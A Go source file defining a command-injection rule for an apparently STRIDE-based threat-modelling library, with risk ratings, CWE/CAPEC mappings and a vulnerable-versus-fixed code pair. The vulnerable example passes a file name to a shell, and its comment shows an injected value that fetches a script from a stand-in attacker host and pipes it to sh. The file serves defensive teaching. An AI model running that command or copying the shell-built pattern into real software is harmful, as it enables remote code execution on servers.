package command

import "github.com/gostride/gostride/stride"

// Injection is the rule about commands that the caller writes.
var Injection = &stride.Rule{
	ID: "command-injection", Title: "The caller runs commands on the server", STRIDE: "E", Also: "TI",
	Reports: "A program, or a text for a shell, that holds something which the caller chooses. Arguments of a fixed program count as less: no shell reads them, and only the program's own options can be chosen.",
	Silent:  "Numbers, UUIDs, members of an allow-list. Commands of the command line itself.",
	Before:  `exec.Command("sh", "-c", "convert "+name+" out.png").Run() // name=x; curl evil.example | sh`,
	After:   `exec.Command("convert", "--", path, "out.png").Run() // no shell, a path that the server made`,
	CWE:     []string{"CWE-78", "CWE-88"}, CAPEC: []string{"CAPEC-88"}, ASVS: []string{"v5.0.0-1.2.5"},
	Likelihood: "High", LikelihoodWhy: "the request itself carries the command",
	Impact: "Critical", ImpactWhy: "the server does whatever its account may do",
	Action: "Run a fixed program without a shell, with arguments from a fixed list or made by the server.", Effort: "Medium",
}
